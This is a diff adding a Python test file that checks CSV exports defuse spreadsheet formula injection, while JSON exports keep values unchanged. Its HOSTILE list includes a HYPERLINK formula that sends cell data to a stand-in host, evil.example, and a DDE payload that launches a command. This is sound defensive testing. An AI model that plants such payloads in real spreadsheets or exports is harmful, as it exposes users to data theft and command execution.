@@ -1,0 +1,45 @@
+"""The CSV files of an export defuse spreadsheet formulas; the JSON files keep every value."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from decimal import Decimal
+
+import pytest
+
+from treu.datamap._export_files import csv_bytes, csv_cell, json_bytes, plain
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_text_a_spreadsheet_would_run_gets_a_quote_in_csv_only(value: str) -> None:
+    row = {
+        "id": 7,
+        "note": value,
+        "amount": plain(Decimal("-12.50"), "NUMERIC(10, 2)"),
+        "points": -3,
+    }
+    columns = ["id", "note", "amount", "points"]
+    cells = next(csv.reader(io.StringIO(csv_bytes(columns, [row]).decode("utf-8-sig")[
+        len("id,note,amount,points\r\n"):])))  # fmt: skip
+    assert cells == ["7", "'" + value, "-12.50", "-3"]  # negative numbers stay numbers
+    assert json.loads(json_bytes([row]))[0]["note"] == value  # JSON: exactly as stored
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [("Müller", "Müller"), ("-17", "-17"), ("+4934198765", "+4934198765"), ("-", "'-"),
+     ("", ""), (None, ""), (-1.5, "-1.5"), ({"a": "=x"}, '{"a": "=x"}')],
+)  # fmt: skip
+def test_plain_text_and_numbers_are_left_alone(value: object, cell: str) -> None:
+    assert csv_cell(value) == cell  # type: ignore[arg-type]
